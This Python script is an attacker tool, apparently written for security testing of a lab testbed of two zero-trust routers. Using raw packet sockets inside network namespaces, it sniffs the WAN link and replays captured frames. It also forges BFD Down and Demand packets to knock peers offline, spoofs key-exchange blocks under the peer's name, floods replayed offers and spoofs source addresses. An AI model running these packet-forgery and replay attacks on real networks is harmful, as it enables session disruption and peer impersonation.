#!/usr/bin/env python3
"""An attacker on the testbed's WAN (issue 13): sniff, inject, replay and spoof packets between
the two zero-trust routers. Raw AF_PACKET sockets only (no scapy).

Where the attacker sits. The WAN is one veth pair, ra-wan (namespace router-a) <-> rb-wan
(namespace router-b); svrd drives both ends through net_af_packet. A frame written to rb-wan
from a packet socket in router-b's namespace arrives at router-a exactly like a frame on the
wire; a packet socket on ra-wan sees every frame arriving at router-a. So the attacker is
on-path without a third namespace: to attack router-a ("victim a") it injects on rb-wan and
sniffs ra-wan, and the other way round for router-b. The script enters the namespaces itself
(setns), so run it from the root namespace, as root. All traffic stays on that veth pair.

  attacks.py capture FILE SECONDS          sniff both directions of the WAN (BFD/UDP 1280 and
                                           SVR packets between the waypoints) into a pcap file
  attacks.py summary FILE                  count the captured frames by kind
  attacks.py spoof-clear-block [--victim a] [--count 3] [--capture FILE]
                                           clear key-exchange blocks claiming the peer's name
                                           (Key Request; Hello with a garbage signature and,
                                           with --capture, the peer's genuine certificate
                                           chain), each inside a copy of a live, genuine BFD
                                           packet (same discriminators and state: the BFD
                                           header changes nothing), src = peer's waypoint
  attacks.py replay FILE --kind offer|bfd|first|enable-md|control [--victim a|b]
                    [--retarget-live] [--rate 100]
                                           re-send captured frames of one kind, in order
                                           (--retarget-live: rewrite the UDP ports to those of
                                           a live session seen toward the victim)
  attacks.py bfd-down [--victim a] [--seconds 6] [--rate 2]
                                           spoofed Down and AdminDown, Your Discriminator 0
                                           and copied, on every path (v4 and v6)
  attacks.py bfd-minrx0 / bfd-demand [--victim a] [--seconds 6] [--rate 2]
                                           spoofed Up with Required Min RX Interval 0 / with
                                           the Demand bit, copied discriminators
  attacks.py flood-offers FILE RATE SECONDS [--victim b] [--fresh-bfd]
                                           captured genuine clear offers (Hello blocks),
                                           replayed round robin at RATE packets/s
                                           (--fresh-bfd: behind a live BFD Up header, so
                                           that only the key exchange is hit)
  attacks.py junk-wayports [--victim b] [--count 20] [--save FILE]
                                           junk UDP from the peer's waypoint to unused
                                           wayports; --save keeps the victim's answers (Enable
                                           Metadata) for a later `replay --kind enable-md`
  attacks.py own-source [--victim a] [--count 20]
                                           UDP on the WAN with the victim's own waypoint as
                                           source; prints how many were reflected back out

Every subcommand prints one line "attack=NAME sent=N ..." on stdout.

The key-exchange block (docs/bfd-metadata.md §2, big-endian) that spoof-clear-block builds and
the classifier reads. It follows the 24-byte BFD control packet (BFD Length = 24, no auth) in
the same UDP 1280 -> 1280 datagram:

  0       8        10      12            HL             HL+PL     (+24 HMAC if sealed)
  | cookie 4C48DBC6DDF6670C | V=1 (4 bits) HL (12 bits) | PL (16) | header TLVs | payload TLVs |
  TLV = type u16 | length u16 | value
  header TLVs: 0x0010 Security Identifier u32 (present iff sealed), 0x8001 Peering Name
  payload TLVs (clear block: plain; sealed: AES-256-CBC ciphertext || IV, then HMAC):
    0x8010 Certificate Chain  n x (u16 len | DER), leaf first
    0x8011 Hello              version 1 | alg (1 x25519, 2 dh-modp-4096) | index | 0 |
                              salt[32] | u16 len | public | u16 len | signature
    0x8012 Finish             index | signature
    0x8013 Key Request        kind (1 = peer key) | have_index u32
  The leader is the router whose peering-common-name sorts first (router-a): its clear Hello
  is the "offer", sent to router-b; router-b's clear Hello is the answer.

SVR metadata (docs/protocol.md §2, §5): the L4 payload starts with the same cookie; header TLV
16 = Security Identifier, 18 = Disable Forward Metadata (reverse metadata), 24 = Control
Message (reason 2 = Enable Metadata); a forward first packet has neither 18 nor 24.
"""
import argparse
import collections
import ctypes
import os
import random
import select
import socket
import struct
import sys
import time

COOKIE = bytes.fromhex("4c48dbc6ddf6670c")
BFD_PORT = 1280
ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4
CLONE_NEWNET = 0x40000000

SIDE = {"a": ("router-a", "ra-wan"), "b": ("router-b", "rb-wan")}
WP4 = {"a": "10.9.0.1", "b": "10.9.0.2"}
WP6 = {"a": "fd00:9::1", "b": "fd00:9::2"}
NAME = {"a": "router-a.testbed.svr", "b": "router-b.testbed.svr"}
WAYPOINTS = set(WP4.values()) | set(WP6.values())
OTHER = {"a": "b", "b": "a"}

# BFD states and flags (RFC 5880 §4.1)
ADMIN_DOWN, DOWN, INIT, UP = 0, 1, 2, 3
F_DEMAND = 0x02


# ------------------------------------------------------------------ namespaces and sockets
_libc = ctypes.CDLL(None, use_errno=True)


def _setns(path):
    fd = os.open(path, os.O_RDONLY)
    try:
        if _libc.setns(fd, CLONE_NEWNET) != 0:
            e = ctypes.get_errno()
            raise OSError(e, f"setns {path}: {os.strerror(e)}")
    finally:
        os.close(fd)


def packet_socket(ns, iface):
    """An AF_PACKET socket bound to IFACE inside network namespace NS."""
    home = os.open("/proc/self/ns/net", os.O_RDONLY)
    try:
        _setns(f"/var/run/netns/{ns}")
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        s.bind((iface, ETH_P_ALL))
    finally:
        if _libc.setns(home, CLONE_NEWNET) != 0:
            raise OSError("cannot return to the root network namespace")
        os.close(home)
    return s


class Wan:
    """The two ends of the WAN veth: inject toward a victim, sniff what reaches it."""

    def __init__(self):
        self._tx = {}
        self._rx = {}

    def tx(self, victim):  # the socket whose frames reach VICTIM
        if victim not in self._tx:
            self._tx[victim] = packet_socket(*SIDE[OTHER[victim]])
        return self._tx[victim]

    def rx(self, victim):  # the socket that sees frames arriving at VICTIM
        if victim not in self._rx:
            self._rx[victim] = packet_socket(*SIDE[victim])
        return self._rx[victim]

    def mac(self, who):  # the MAC of WHO's WAN port (= the veth's address, svrd uses it)
        return self.rx(who).getsockname()[4]

    def send(self, victim, frame):
        self.tx(victim).send(frame)

    def sniff(self, victims, seconds, want=None, stop=None):
        """Yield (victim, frame) for frames arriving at any of VICTIMS for SECONDS."""
        socks = {self.rx(v): v for v in victims}
        end = time.monotonic() + seconds
        while True:
            left = end - time.monotonic()
            if left <= 0:
                return
            r, _, _ = select.select(list(socks), [], [], min(left, 0.2))
            for s in r:
                while True:
                    try:
                        frame, addr = s.recvfrom(65535, socket.MSG_DONTWAIT)
                    except BlockingIOError:
                        break
                    if addr[2] == PACKET_OUTGOING:
                        continue
                    yield socks[s], frame


# ------------------------------------------------------------------ packet building
def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def is6(addr):
    return ":" in addr


def udp_ip(src, dst, sport, dport, payload, ttl=255):
    """An IPv4 or IPv6 + UDP packet (checksums filled), without the Ethernet header."""
    ulen = 8 + len(payload)
    if is6(src):
        s6, d6 = socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)
        pseudo = s6 + d6 + struct.pack("!IxxxB", ulen, 17)
        u = struct.pack("!HHHH", sport, dport, ulen, 0) + payload
        c = csum(pseudo + u) or 0xFFFF
        u = u[:6] + struct.pack("!H", c) + u[8:]
        return struct.pack("!IHBB", 6 << 28, ulen, 17, ttl) + s6 + d6 + u
    s4, d4 = socket.inet_aton(src), socket.inet_aton(dst)
    pseudo = s4 + d4 + struct.pack("!xBH", 17, ulen)
    u = struct.pack("!HHHH", sport, dport, ulen, 0) + payload
    c = csum(pseudo + u) or 0xFFFF
    u = u[:6] + struct.pack("!H", c) + u[8:]
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, random.getrandbits(16), 0x4000, ttl, 17, 0, s4, d4)
    h = h[:10] + struct.pack("!H", csum(h)) + h[12:]
    return h + u


def eth(dst_mac, src_mac, ip_packet):
    etype = b"\x86\xdd" if ip_packet[0] >> 4 == 6 else b"\x08\x00"
    return dst_mac + src_mac + etype + ip_packet


def parse(frame):
    """Ethernet + IPv4/IPv6 + UDP/TCP: a dict, or None."""
    if len(frame) < 14:
        return None
    et = frame[12:14]
    l3 = frame[14:]
    if et == b"\x08\x00" and len(l3) >= 20:
        ihl = (l3[0] & 15) * 4
        tot = struct.unpack("!H", l3[2:4])[0]
        proto = l3[9]
        src, dst = socket.inet_ntoa(l3[12:16]), socket.inet_ntoa(l3[16:20])
        l4 = l3[ihl:tot]
        l4off = 14 + ihl
    elif et == b"\x86\xdd" and len(l3) >= 40:
        plen = struct.unpack("!H", l3[4:6])[0]
        proto = l3[6]
        src = socket.inet_ntop(socket.AF_INET6, l3[8:24])
        dst = socket.inet_ntop(socket.AF_INET6, l3[24:40])
        l4 = l3[40:40 + plen]
        l4off = 54
    else:
        return None
    p = {"src": src, "dst": dst, "proto": proto, "l4": l4, "l4off": l4off}
    if proto == 17 and len(l4) >= 8:
        p["sport"], p["dport"] = struct.unpack("!HH", l4[:4])
        p["payload"] = l4[8:]
    elif proto == 6 and len(l4) >= 20:
        p["sport"], p["dport"] = struct.unpack("!HH", l4[:4])
        p["payload"] = l4[(l4[12] >> 4) * 4:]
    else:
        return None
    return p


def rewrite_udp(frame, sport=None, dport=None, dst_mac=None, src_mac=None):
    """A copy of a UDP frame with other ports / MACs, checksums recomputed."""
    p = parse(frame)
    ip = udp_ip(p["src"], p["dst"], sport if sport is not None else p["sport"],
                dport if dport is not None else p["dport"], p["payload"])
    return eth(dst_mac or frame[:6], src_mac or frame[6:12], ip)


def victim_of(p):
    for v in "ab":
        if p["dst"] in (WP4[v], WP6[v]):
            return v
    return None


# ------------------------------------------------------------------ blocks and metadata
def tlv(t, v):
    return struct.pack("!HH", t, len(v)) + v


def tlvs(data):
    out, i = [], 0
    while i + 4 <= len(data):
        t, n = struct.unpack("!HH", data[i:i + 4])
        out.append((t, data[i + 4:i + 4 + n]))
        i += 4 + n
    return out


def block(header, payload):
    hl = 12 + len(header)
    return COOKIE + struct.pack("!HH", (1 << 12) | hl, len(payload)) + header + payload


def split_block(b):
    """(header TLVs, payload bytes) of a key-exchange block or SVR metadata, or None."""
    if len(b) < 12 or b[:8] != COOKIE:
        return None
    hl = struct.unpack("!H", b[8:10])[0] & 0xFFF
    pl = struct.unpack("!H", b[10:12])[0]
    if hl < 12 or hl > len(b):
        return None
    return dict(tlvs(b[12:hl])), b[hl:hl + pl]


def bfd_packet(state, my, your, diag=0, flags=0, mult=3, tx=1_000_000, rx=500_000, echo=0):
    return struct.pack("!BBBBIIIII", (1 << 5) | diag, (state << 6) | flags, mult, 24, my, your, tx, rx, echo)


def bfd_fields(payload):
    if len(payload) < 24 or payload[0] >> 5 != 1:
        return None
    return {"state": payload[1] >> 6, "flags": payload[1] & 0x3F, "my": struct.unpack("!I", payload[4:8])[0],
            "your": struct.unpack("!I", payload[8:12])[0], "len": payload[3]}


def classify(frame):
    p = parse(frame)
    if p is None or p["src"] not in WAYPOINTS or p["dst"] not in WAYPOINTS:
        return None
    if p["proto"] == 17 and p["dport"] == BFD_PORT:
        f = bfd_fields(p["payload"])
        if f is None:
            return "bfd-bad"
        blk = split_block(p["payload"][f["len"]:])
        if blk is None:
            return "bfd"
        header, pay = blk
        if 0x0010 in header:
            return "bfd-sealed"
        payload_types = {t for t, _ in tlvs(pay)}
        return "bfd-clear-hello" if 0x8011 in payload_types else "bfd-clear"
    md = split_block(p["payload"])
    if md is None:
        return "svr-data"
    header, _ = md
    if 24 in header:
        return "svr-enable-md" if header[24][:1] == b"\x02" else "svr-control"
    if 18 in header:
        return "svr-reverse"
    return "svr-forward" if 16 in header else "svr-other-md"


KINDS = {
    "offer": {"bfd-clear-hello"},
    "bfd": {"bfd", "bfd-sealed", "bfd-clear", "bfd-clear-hello"},
    "first": {"svr-forward"},
    "enable-md": {"svr-enable-md"},
    "control": {"svr-enable-md", "svr-control"},
}


# ------------------------------------------------------------------ pcap
def pcap_write(path, frames):
    with open(path, "wb") as f:
        f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
        for ts, fr in frames:
            f.write(struct.pack("<IIII", int(ts), int((ts % 1) * 1e6), len(fr), len(fr)))
            f.write(fr)


def pcap_read(path):
    out = []
    with open(path, "rb") as f:
        data = f.read()
    i = 24
    while i + 16 <= len(data):
        sec, usec, incl, _ = struct.unpack("<IIII", data[i:i + 16])
        out.append((sec + usec / 1e6, data[i + 16:i + 16 + incl]))
        i += 16 + incl
    return out


# ------------------------------------------------------------------ helpers
def pace(rate):
    """A generator that sleeps so that consecutive next() calls run at RATE per second."""
    start = time.monotonic()
    i = 0
    while True:
        due = start + i / rate
        d = due - time.monotonic()
        if d > 0:
            time.sleep(d)
        yield i
        i += 1


def genuine_bfd(wan, victim, fam, seconds=3.0):
    """The latest genuine BFD frame the peer sent to VICTIM on the FAM (4 or 6) path."""
    peer = OTHER[victim]
    src = WP4[peer] if fam == 4 else WP6[peer]
    for _, fr in wan.sniff([victim], seconds):
        p = parse(fr)
        if p and p["proto"] == 17 and p["dport"] == BFD_PORT and p["src"] == src:
            if bfd_fields(p["payload"]):
                return fr, p
    return None, None


def out(name, **kv):
    print(f"attack={name} " + " ".join(f"{k}={v}" for k, v in kv.items()), flush=True)


# ------------------------------------------------------------------ subcommands
def cmd_capture(a):
    wan = Wan()
    frames, kinds = [], collections.Counter()
    for _, fr in wan.sniff(["a", "b"], a.seconds):
        k = classify(fr)
        if k is None:
            continue
        kinds[k] += 1
        frames.append((time.time(), fr))
        if len(frames) >= a.max_frames:
            break
    pcap_write(a.file, frames)
    out("capture", frames=len(frames), file=a.file, kinds=",".join(f"{k}:{n}" for k, n in sorted(kinds.items())))


def cmd_summary(a):
    kinds = collections.Counter()
    for _, fr in pcap_read(a.file):
        p = parse(fr)
        kinds[f"{classify(fr)}->{victim_of(p) if p else '?'}"] += 1
    out("summary", file=a.file, kinds=",".join(f"{k}:{n}" for k, n in sorted(kinds.items())))


def peer_chain(capture, peer):
    """The peer's genuine Certificate Chain TLV value from a captured clear block, or None."""
    if not capture:
        return None
    src = {WP4[peer], WP6[peer]}
    for _, fr in pcap_read(capture):
        p = parse(fr)
        if p and p["proto"] == 17 and p["dport"] == BFD_PORT and p["src"] in src:
            f = bfd_fields(p["payload"])
            blk = f and split_block(p["payload"][f["len"]:])
            if blk and 0x0010 not in blk[0]:
                for t, v in tlvs(blk[1]):
                    if t == 0x8010:
                        return v
    return None


def cmd_spoof_clear_block(a):
    wan = Wan()
    victim, peer = a.victim, OTHER[a.victim]
    name = NAME[peer].encode()
    header = tlv(0x8001, name)
    chain = peer_chain(a.capture, peer)
    hello = struct.pack("!BBBB", 1, 1, random.randint(1, 255), 0) + os.urandom(32) + \
        struct.pack("!H", 32) + os.urandom(32) + struct.pack("!H", 64) + os.urandom(64)
    blocks = {
        "key-request": block(header, tlv(0x8013, struct.pack("!BI", 1, 0))),
        "hello-garbage-signature": block(header, tlv(0x8011, hello)),
    }
    if chain:
        blocks["chain-hello-garbage-signature"] = block(header, tlv(0x8010, chain) + tlv(0x8011, hello))
    sent = 0
    for fam in (4, 6):
        fr, p = genuine_bfd(wan, victim, fam)
        if fr is None:
            print(f"no genuine BFD packet seen on the IPv{fam} path", file=sys.stderr)
            continue
        # The whole control section as BFD Length says (64 bytes once authenticated).
        bfd = p["payload"][:p["payload"][3]]
        for _ in range(a.count):
            for blk in blocks.values():
                ip = udp_ip(p["src"], p["dst"], p["sport"], BFD_PORT, bfd + blk)
                wan.send(victim, eth(fr[:6], fr[6:12], ip))
                sent += 1
            time.sleep(0.05)
    out("spoof-clear-block", victim=victim, sent=sent, variants=",".join(blocks))


def cmd_replay(a):
    wan = Wan()
    want = KINDS[a.kind]
    frames = []
    for _, fr in pcap_read(a.file):
        p = parse(fr)
        if p is None or classify(fr) not in want:
            continue
        v = victim_of(p)
        if a.victim and v != a.victim:
            continue
        frames.append((v, fr, p))
    live = {}
    if a.retarget_live:
        # The ports of live sessions toward each victim (most frequent SVR data 5-tuple).
        seen = collections.Counter()
        for v, fr in wan.sniff(sorted({v for v, _, _ in frames}) or ["a"], 1.5):
            p = parse(fr)
            if p and p["proto"] == 17 and p["dport"] != BFD_PORT and classify(fr) == "svr-data":
                seen[(v, is6(p["src"]), p["sport"], p["dport"])] += 1
        for (v, six, sp, dp), _ in seen.most_common():
            live.setdefault((v, six), (sp, dp))
    sent = 0
    rounds = max(1, a.repeat)
    tick = pace(a.rate)
    for _ in range(rounds):
        for v, fr, p in frames:
            if a.retarget_live:
                ports = live.get((v, is6(p["src"])))
                if ports is None:
                    continue
                fr = rewrite_udp(fr, sport=ports[0], dport=ports[1], dst_mac=wan.mac(v), src_mac=wan.mac(OTHER[v]))
            else:
                fr = wan.mac(v) + wan.mac(OTHER[v]) + fr[12:]
            next(tick)
            wan.send(v, fr)
            sent += 1
    out("replay", kind=a.kind, candidates=len(frames), sent=sent,
        retargeted=",".join(f"{v}{'/v6' if six else '/v4'}:{sp}->{dp}" for (v, six), (sp, dp) in live.items()) or "-")


def spoof_bfd(a, variants, name):
    wan = Wan()
    victim = a.victim
    paths = []
    for fam in (4, 6):
        fr, p = genuine_bfd(wan, victim, fam)
        if fr is None:
            print(f"no genuine BFD packet seen on the IPv{fam} path", file=sys.stderr)
            continue
        paths.append((fr, p, bfd_fields(p["payload"])))
    sent = 0
    tick = pace(a.rate)
    end = time.monotonic() + a.seconds
    i = 0
    while time.monotonic() < end and paths:
        next(tick)
        make = variants[i % len(variants)]
        for fr, p, f in paths:
            ip = udp_ip(p["src"], p["dst"], p["sport"], BFD_PORT, make(f))
            wan.send(victim, eth(fr[:6], fr[6:12], ip))
            sent += 1
        i += 1
    out(name, victim=victim, paths=len(paths), sent=sent, seconds=a.seconds)


def cmd_bfd_down(a):
    spoof_bfd(a, [
        lambda f: bfd_packet(DOWN, f["my"], 0, diag=1),          # Down, Your Discriminator 0
        lambda f: bfd_packet(DOWN, f["my"], f["your"], diag=1),  # Down, copied discriminators
        lambda f: bfd_packet(ADMIN_DOWN, f["my"], 0, diag=7),    # AdminDown, Your Discriminator 0
        lambda f: bfd_packet(ADMIN_DOWN, f["my"], f["your"], diag=7),
    ], "bfd-down")


def cmd_bfd_minrx0(a):
    spoof_bfd(a, [lambda f: bfd_packet(UP, f["my"], f["your"], rx=0)], "bfd-minrx0")


def cmd_bfd_demand(a):
    spoof_bfd(a, [lambda f: bfd_packet(UP, f["my"], f["your"], flags=F_DEMAND)], "bfd-demand")


def cmd_flood_offers(a):
    wan = Wan()
    frames = []
    for _, fr in pcap_read(a.file):
        p = parse(fr)
        if p and classify(fr) == "bfd-clear-hello":
            v = victim_of(p)
            # An offer is the leader's (router-a's) Hello, so it goes to router-b.
            if v == a.victim:
                frames.append(wan.mac(v) + wan.mac(OTHER[v]) + fr[12:])
    if not frames:
        out("flood-offers", victim=a.victim, candidates=0, sent=0)
        sys.exit(2)
    if a.fresh_bfd:
        # Splice each captured block behind a live, genuine BFD header (Up, current
        # discriminators): BFD itself is left alone, only the key exchange sees the offer.
        live = {}
        for fam in (4, 6):
            fr, p = genuine_bfd(wan, a.victim, fam)
            if fr is not None:
                live[is6(p["src"])] = p["payload"][:p["payload"][3]]
        spliced = []
        for fr in frames:
            p = parse(fr)
            hdr = live.get(is6(p["src"]))
            if hdr is not None:
                blk = p["payload"][bfd_fields(p["payload"])["len"]:]
                spliced.append(eth(fr[:6], fr[6:12], udp_ip(p["src"], p["dst"], p["sport"], BFD_PORT, hdr + blk)))
        frames = spliced or frames
    tick = pace(a.rate)
    end = time.monotonic() + a.seconds
    sent = 0
    t0 = time.monotonic()
    while time.monotonic() < end:
        next(tick)
        wan.send(a.victim, frames[sent % len(frames)])
        sent += 1
    dt = time.monotonic() - t0
    out("flood-offers", victim=a.victim, candidates=len(frames), sent=sent, seconds=f"{dt:.1f}",
        rate=f"{sent / dt:.0f}", bytes=len(frames[0]))


def cmd_junk_wayports(a):
    wan = Wan()
    victim, peer = a.victim, OTHER[a.victim]
    vm, pm = wan.mac(victim), wan.mac(peer)
    sent = 0
    for i in range(a.count):
        for src, dst in ((WP4[peer], WP4[victim]), (WP6[peer], WP6[victim])):
            sport = random.randrange(16384, 65534, 2)     # the peer's even wayport
            dport = random.randrange(16385, 65535, 2)     # our odd wayport: no session there
            wan.send(victim, eth(vm, pm, udp_ip(src, dst, sport, dport, os.urandom(120), ttl=64)))
            sent += 1
        time.sleep(0.02)
    answers = []
    kinds = collections.Counter()
    for v, fr in wan.sniff([peer], 1.0):
        k = classify(fr)
        if k in ("svr-enable-md", "svr-control"):
            kinds[k] += 1
            answers.append((time.time(), fr))
    if a.save:
        pcap_write(a.save, answers)
    out("junk-wayports", victim=victim, sent=sent, answers=len(answers),
        kinds=",".join(f"{k}:{n}" for k, n in kinds.items()) or "-", saved=a.save or "-")


def cmd_own_source(a):
    wan = Wan()
    victim, peer = a.victim, OTHER[a.victim]
    vm, pm = wan.mac(victim), wan.mac(peer)
    marker = b"SVR-OWN-SOURCE-" + os.urandom(4).hex().encode()
    dsts = [(WP4[victim], WP4[peer]), (WP6[victim], WP6[peer]), (WP4[victim], "10.2.0.2")]
    sent = 0
    for i in range(a.count):
        for src, dst in dsts:
            wan.send(victim, eth(vm, pm, udp_ip(src, dst, 40000 + i, 9, marker, ttl=64)))
            sent += 1
        time.sleep(0.01)
    # Anything the victim routed back out toward its peer (a reflection loop) arrives there.
    reflected = 0
    for _, fr in wan.sniff([peer], 1.0):
        p = parse(fr)
        if p and p["src"] in (WP4[victim], WP6[victim]) and marker in fr:
            reflected += 1
    out("own-source", victim=victim, sent=sent, reflected=reflected)


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sp = ap.add_subparsers(dest="cmd", required=True)
    c = sp.add_parser("capture"); c.add_argument("file"); c.add_argument("seconds", type=float)
    c.add_argument("--max-frames", type=int, default=50000); c.set_defaults(fn=cmd_capture)
    c = sp.add_parser("summary"); c.add_argument("file"); c.set_defaults(fn=cmd_summary)
    c = sp.add_parser("spoof-clear-block"); c.add_argument("--victim", default="a", choices="ab")
    c.add_argument("--count", type=int, default=3); c.add_argument("--capture")
    c.set_defaults(fn=cmd_spoof_clear_block)
    c = sp.add_parser("replay"); c.add_argument("file"); c.add_argument("--kind", required=True, choices=sorted(KINDS))
    c.add_argument("--victim", choices="ab"); c.add_argument("--retarget-live", action="store_true")
    c.add_argument("--rate", type=float, default=100); c.add_argument("--repeat", type=int, default=1)
    c.set_defaults(fn=cmd_replay)
    for name, fn in (("bfd-down", cmd_bfd_down), ("bfd-minrx0", cmd_bfd_minrx0), ("bfd-demand", cmd_bfd_demand)):
        c = sp.add_parser(name); c.add_argument("--victim", default="a", choices="ab")
        c.add_argument("--seconds", type=float, default=6); c.add_argument("--rate", type=float, default=2)
        c.set_defaults(fn=fn)
    c = sp.add_parser("flood-offers"); c.add_argument("file"); c.add_argument("rate", type=float)
    c.add_argument("seconds", type=float); c.add_argument("--victim", default="b", choices="ab")
    c.add_argument("--fresh-bfd", action="store_true"); c.set_defaults(fn=cmd_flood_offers)
    c = sp.add_parser("junk-wayports"); c.add_argument("--victim", default="b", choices="ab")
    c.add_argument("--count", type=int, default=20); c.add_argument("--save")
    c.set_defaults(fn=cmd_junk_wayports)
    c = sp.add_parser("own-source"); c.add_argument("--victim", default="a", choices="ab")
    c.add_argument("--count", type=int, default=20); c.set_defaults(fn=cmd_own_source)
    a = ap.parse_args()
    a.fn(a)


if __name__ == "__main__":
    main()
